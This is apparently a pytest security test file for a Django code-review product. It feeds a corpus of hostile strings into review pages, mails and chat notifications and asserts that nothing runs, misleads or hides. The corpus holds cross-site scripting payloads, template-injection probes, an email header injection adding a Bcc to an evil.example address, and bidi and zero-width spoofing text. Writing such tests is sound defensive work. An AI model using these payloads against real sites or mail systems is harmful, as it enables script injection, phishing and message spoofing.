"""Hostile strings through every field that a page, a mail or a chat message shows of a review: nothing runs, nothing
passes for a part of the product, nothing hides (law §15)."""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterator
from email.message import EmailMessage
from html.parser import HTMLParser
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from playwright.sync_api import BrowserContext, Dialog, Page, Request

from pipelines.models import Artifact, Blob, Project, Task, User, VisitCommit
from pipelines.ports.vault import keys
from pipelines.routing.basics.hidden_characters import HIDDEN
from reviews.attention import questions
from reviews.channels import accounts
from reviews.decision import mail_link
from reviews.models import Mail, Notification
from reviews.tasks import deliver_mail, deliver_notification
from tests.factories import World, station
from tests.fixtures.mailbox import Mailbox
from tests.pages.conftest import at, client_of
from tests.reviews.test_channels import Chat, chat, connect, deliver  # noqa: F401 a fixture
from tests.reviews.test_chat_decisions import SECRET, Slack

pytestmark = pytest.mark.django_db(transaction=True)
EVIL = "evil.example"
RUNS = "window.pwned=1"
CORPUS = {
    "script": f"<script>{RUNS}</script><img src=x onerror={RUNS}><svg/onload={RUNS}>",
    "attribute": f'"\'><a href="javascript:{RUNS}" onmouseover=\'{RUNS}\'>Approve</a><p title="',
    "handler": f"javascript:{RUNS}//%0a{RUNS}",
    "frame": f"<iframe srcdoc='<script>parent.{RUNS}</script>'></iframe><base href=//{EVIL}/>",
    "button": '<button form="decide" name="word" value="approve" data-arm="a">Approve</button><input autofocus>',
    "htmx": f'<div hx-get="//{EVIL}/" hx-trigger="load" hx-vals="js:{RUNS}" data-arm="a" data-decision>x</div>',
    "end": f"</title></textarea></script></style><!--><script>{RUNS}</script>",
    "template": "{{ 7191*7 }}{% load x %}${7191*7}<%= 7191*7 %>#{7191*7}",
    "ansi": "\x1b[2J\x1b[31mred\x1b]0;x\x07\x1b]8;;https://evil.example\x07Approve\x1b]8;;\x07\x9b31m",
    "turned": "Reject \u202eevorppA\u202c \u2067x\u2069\u200e\u061c",
    "no-width": "Appr\u200bo\u200dve\ufeff\u2060\u00ad\u034f\u115f\u3164\U000e0041\U000e0101\u2800",
    "enormous": "A" * 20_000 + " " + "b c " * 5_000,
    "lines": f"Built.\nOpen the review: https://{EVIL}/\nApprove without signing in: https://{EVIL}/a\n\r\u2028x\x0bv",
    "header": f"x\r\nBcc: mallory@{EVIL}\r\nContent-Type: text/html\r\n\r\n<b>Body</b>",
    "slack": f"<https://{EVIL}|Approve> <!channel> <@U1> <!subteam^S1> &lt;!here&gt; *b* `c` :tada:",
    "markdown": f"[Approve](https://{EVIL}) ![x](https://{EVIL}/a.png) <https://{EVIL}> **b** # h\n- [ ] @all @channel",
    "teams": f"<at>everyone</at> [Approve](https://{EVIL}) {{{{DATE(2020)}}}} ${{$root}} [x]: https://{EVIL}",
    "broken": "\ud7ff\ufffe\uffff " + "\u0301" * 400 + " ﷽" * 40,
}
MARKDOWN = re.compile(r"(?<!\\)[*_`\[\]~|]|(?<!\\)<|(?<!\\)!\[")
TABS = ("changes", "findings", "claims", "output", "log", "history")


class Staged:
    """A review in its second round, every word of which somebody hostile chose."""

    def __init__(self, world: World, said: str) -> None:
        self.world, self.said = world, said
        line = " ".join(said.replace("\0", "").split())[:100]
        for user in (world.reviewer, world.operator):
            User.objects.filter(pk=user.pk).update(first_name=said[:150], last_name=said[:40])
            user.refresh_from_db()
        Project.objects.filter(pk=world.project.pk).update(name=said[:100])
        world.project.refresh_from_db()
        self.task = world.start(world.line(self._document(line)), title="x", inputs={"why": said[:20_000]})
        Task.objects.filter(pk=self.task.pk).update(title=said[:200], description=said)
        self._report()
        first = world.visit(self.task)
        question = questions.ask_requester_in_open_review(first, world.reviewer, said[:9_000])
        questions.answer_question(first, question.pk, world.operator, said[:9_000])
        world.vote(self.task, "send_back", reason=said[:20_000])
        self._report()
        self.visit = world.visit(self.task)
        questions.ask_requester_in_open_review(self.visit, world.reviewer, said[:9_000])

    def _document(self, line: str) -> dict[str, Any]:
        rule = {"id": "built", "label": line, "to": "ship", "gates": ["review"]}
        return {
            "gateline": 1,
            "key": "release",
            "name": line,
            "description": self.said[:2_000],
            "stations": [
                station("build", rule, name=line),
                station(
                    "ship",
                    kind="manual",
                    name=line,
                    work={"instructions": self.said[:2_000].replace("{{", "{ {")},
                ),
            ],
            "gates": [
                {
                    "key": "review",
                    "name": line,
                    "description": self.said[:2_000],
                    "channels": {"mail_link": True, "chat": True},
                    "notify": [self.world.reviewer.email, "lead@example.com"],
                }
            ],
            "inputs": [{"key": "why", "type": "long_text", "label": line, "help": self.said[:500]}],
        }

    def _report(self) -> None:
        said = {"note": self.said, self.said[:80]: [self.said], "findings": [{"message": self.said}]}
        outcome = {"result": "success", "summary": self.said, "output": said, "claims": [self.said[:500]]}
        job = self.world.started(self.task)
        blob, _ = Blob.objects.get_or_create(
            digest="0" * 64, defaults={"size": 1, "created_at": timezone.now()}
        )
        Artifact.objects.create(task=self.task, job=job, name=self.said[:200].replace("\0", ""), blob=blob)
        VisitCommit.objects.create(
            job=job, task=self.task, repository_name=self.said[:100], branch=self.said[:200],
            base_branch=self.said[:200], base="0" * 40, head=f"{job.pk:040x}", tree="2" * 40,
            created_at=timezone.now(),
        )  # fmt: skip
        known = {key: value for key, value in outcome.items() if key != "claims"}
        told = self.world.report(self.task, known)
        assert told.status == "accepted", told

    def pages(self) -> Iterator[tuple[User, str]]:
        world, visit = self.world, self.visit.pk
        review = reverse("gate-visit", args=[visit])
        for show in TABS:
            yield world.reviewer, f"{review}?show={show}"
        yield world.reviewer, f"{review}?word=reject"
        yield world.reviewer, f"{review}?fragment=bar"
        for tab in ("mine", "others", "done"):
            yield world.operator, f"{reverse('inbox')}?tab={tab}"
        for user in (world.reviewer, world.operator):
            yield user, reverse("needs-me")
            yield user, f"{reverse('needs-me')}?fragment=list"
            yield user, reverse("notifications")
            yield user, reverse("home")
            yield user, at(world, "task", self.task.name)
            yield user, at(world, "tasks")
        yield world.reviewer, f"{reverse('gate-bulk')}?visit={visit}&word=reject"
        yield world.admin, reverse("gate-override", args=[visit])
        yield world.admin, at(world, "insights")
        yield world.reviewer, at(world, "line", "release")
        yield world.reviewer, reverse("account-away")


class Told(HTMLParser):
    """What of a page would run, lead away or decide because of what somebody wrote."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []
        self.words: list[str] = []
        self._in = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        # What is handed to a script as data runs nothing.
        self._in = "data" if ("type", "application/json") in attrs else tag
        for name, value in attrs:
            said = (value or "").strip().lower()
            led = name in (
                "href",
                "src",
                "action",
                "formaction",
                "srcset",
                "hx-get",
                "hx-post",
                "ping",
                "data",
            )
            if name.startswith("on") or name == "srcdoc" or said.startswith("js:"):
                self.faults.append(f"<{tag} {name}={said[:80]}>")
            if led and (said.startswith(("javascript:", "data:text", "vbscript:")) or f"//{EVIL}" in said):
                self.faults.append(f"<{tag} {name}={said[:80]}>")
            if name == "autofocus" and tag == "input":
                self.faults.append("<input autofocus>")
        if tag in ("iframe", "object", "embed", "base"):
            self.faults.append(f"<{tag}>")

    def handle_endtag(self, tag: str) -> None:
        self._in = ""

    def handle_data(self, data: str) -> None:
        if self._in == "script" and "pwned" in data:
            self.faults.append(f"script: {data[:80]}")
        if self._in not in ("script", "data", "style", "textarea"):
            self.words.append(data)


def looked_at(html: str, where: str) -> list[str]:
    page = Told()
    page.feed(html)
    words = "".join(page.words)
    faults = [f"{where}: {each}" for each in page.faults]
    if (hidden := HIDDEN.search(words)) and hidden.group() != "\u200d":
        faults.append(f"{where}: hides {hidden.group()!a} in {words[hidden.start() - 20 :][:50]!a}")
    if str(7191 * 7) in words:
        faults.append(f"{where}: a template ran")
    return faults


def mails(mailbox: Mailbox) -> list[EmailMessage]:
    for pk in Mail.objects.filter(state="queued").values_list("pk", flat=True):
        deliver_mail(pk)
    for pk in Notification.objects.values_list("pk", flat=True):
        deliver_notification(pk)
    return [message for _to, message in mailbox.received]


OURS = re.compile(r"https?://[^/\s]+/(inbox|decide|account|p|needs-me|notifications)/")
HEADERS = {
    *("subject", "from", "to", "date", "message-id", "content-type", "mime-version", "auto-submitted"),
    *(
        "x-auto-response-suppress",
        "list-id",
        "in-reply-to",
        "references",
        "list-unsubscribe",
        "list-unsubscribe-post",
    ),
    "content-transfer-encoding",
}


def in_mail(message: EmailMessage) -> list[str]:
    where = f"mail {message['Message-ID']}"
    faults = [f"{where}: header {name}" for name in message if name.lower() not in HEADERS]
    faults += [f"{where}: {name}" for name, value in message.items() if HIDDEN.search(str(value))]
    if EVIL in str(message["To"]) or len(message.get_all("To", [])) != 1:
        faults.append(f"{where}: To {message['To']}")
    html, text = (message.get_body((kind,)) for kind in ("html", "plain"))
    assert html is not None and text is not None
    faults += looked_at(html.get_content(), where)
    for line in text.get_content().splitlines():
        leads = re.match(r"(Open the|Approve without)[^:]*: (\S+)", line)
        if leads and not OURS.match(leads.group(2)):
            faults.append(f"{where}: passes for a line of ours: {line}")
        if HIDDEN.search(line):
            faults.append(f"{where}: hides in {line!a}")
    return faults


def strings(found: Any) -> Iterator[str]:
    if isinstance(found, dict):
        for each in found.values():
            yield from strings(each)
    elif isinstance(found, list):
        for each in found:
            yield from strings(each)
    elif isinstance(found, str):
        yield found


def in_slack(said: dict[str, Any]) -> list[str]:
    faults = [f"slack text: {said['text'][:80]}"] if re.search(r"[<>]", said["text"]) else []
    for block in said.get("blocks", []):
        parts = [block.get("text"), *block.get("elements", [])]
        for part in filter(None, parts):
            if part["type"] not in ("plain_text", "button"):
                faults.append(f"slack: {part['type']}")
            if part["type"] == "plain_text" and part.get("emoji") is not False:
                faults.append("slack: emoji")
            if part["type"] == "button" and "url" in part and not OURS.match(part["url"]):
                faults.append(f"slack: {part['url']}")
    names = [each["action_id"] for each in said["blocks"][-1]["elements"]] if said.get("blocks") else []
    return faults if names in (["approve", "open"], ["open"], []) else [*faults, f"slack: buttons {names}"]


def in_chat(path: str, said: dict[str, Any]) -> list[str]:
    faults = [
        f"{path}: hides {hidden.group()!a}"
        for text in strings(said)
        # A word joiner of ours keeps names from being mentions.
        if (hidden := HIDDEN.search(text.replace("@\u2060", "")))
    ]
    if "/chat." in path:
        return faults + in_slack(said)
    if "/posts" in path:
        *lines, ours = said["message"].split("\n")
        text = "\n".join(lines).removeprefix("**").replace("**\n", "\n", 1)
        faults += [f"{path}: markup in {text[:80]}"] if MARKDOWN.search(text) or "@a" in text else []
        return faults if OURS.search(ours) else [*faults, f"{path}: {ours}"]
    for attachment in said.get("attachments", []):
        for block in attachment["content"]["body"]:
            text = block["text"]
            if block["type"] != "TextBlock" or re.search(r"(?<!\\)[\[\]*_]", text) or "<at>" in text:
                faults.append(f"{path}: markup in {text[:80]}")
    return faults


@pytest.mark.smoke(1)
@pytest.mark.parametrize("name", CORPUS)
def test_nothing_runs_leads_away_or_hides(
    world: World,
    mailbox: Mailbox,
    chat: Chat,  # noqa: F811
    name: str,
) -> None:
    slack = Slack(chat, connect(world, chat, "slack", signing=keys.encrypt_secret(SECRET)))
    for kind in ("mattermost", "teams", "webhook"):
        connect(world, chat, kind)
    staged = Staged(world, CORPUS[name])
    faults: list[str] = []
    clients: dict[int, Client] = {}
    for user, address in staged.pages():
        if user.pk not in clients:
            clients[user.pk] = client_of(user)
        answer = clients[user.pk].get(address)
        faults += [f"{address}: {answer.status_code}"] if answer.status_code != 200 else []
        faults += looked_at(answer.content.decode(), address)
    path = reverse(
        "mail-link-arrive",
        args=[
            mail_link.issue_token_to_sole_member_or_empty(staged.visit, world.reviewer.email, timezone.now())
        ],
    )
    faults += looked_at(Client().get(path, follow=True).content.decode(), "mail link")
    deliver()
    slack.command(f"link {accounts.replace_code_that_links_chat(world.reviewer, slack.connection.pk)}")
    told = mails(mailbox)
    slack.press(slack_value(staged))
    staged.visit.refresh_from_db()
    assert staged.visit.state == "decided"
    deliver()
    told = mails(mailbox)
    assert len({message["Subject"] for message in told}) >= 1 and len(told) >= 5
    for message in told:
        faults += in_mail(message)
    for call in chat.server.asked:
        faults += in_chat(call.path, json.loads(call.body))
    assert len(chat.calls) >= 8
    faults += looked_at(
        clients[world.reviewer.pk].get(f"{reverse('inbox')}?tab=done").content.decode(), "decided"
    )
    history = clients[world.reviewer.pk].get(reverse("gate-history", args=[staged.visit.pk]))
    assert (
        history["Content-Disposition"].startswith("attachment")
        and HIDDEN.search(history.content.decode()) is None
    )
    assert not faults, "\n".join(dict.fromkeys(faults))


def slack_value(staged: Staged) -> str:
    visit = staged.visit
    return f"{visit.pk}:{visit.token_version}:{visit.evidence_digest}"


BROWSED = ("script", "attribute", "end", "htmx", "button", "frame")


@pytest.mark.browser
@pytest.mark.wide
def test_a_browser_runs_none_of_it(
    new_context: Callable[..., BrowserContext],
    sign_in: Callable[[Page | BrowserContext, User], None],
    world: World,
) -> None:
    said = " ".join(CORPUS[name] for name in BROWSED)
    staged = Staged(world, said)
    went: list[str] = []

    def heard(dialog: Dialog) -> None:
        went.append(f"dialog {dialog.message}")
        dialog.dismiss()

    def asked(request: Request) -> None:
        if EVIL in request.url:
            went.append(request.url)

    looked = 0
    contexts: dict[int, BrowserContext] = {}
    for user, address in staged.pages():
        if user.pk not in contexts:
            contexts[user.pk] = new_context()
            sign_in(contexts[user.pk], user)
        page = contexts[user.pk].new_page()
        page.on("dialog", heard)
        page.on("request", asked)
        page.goto(address)
        page.wait_for_load_state("networkidle")
        assert page.evaluate("window.pwned") is None, address
        page.close()
        looked += 1
    assert not went
    print(f"{looked} pages in a browser: nothing ran")
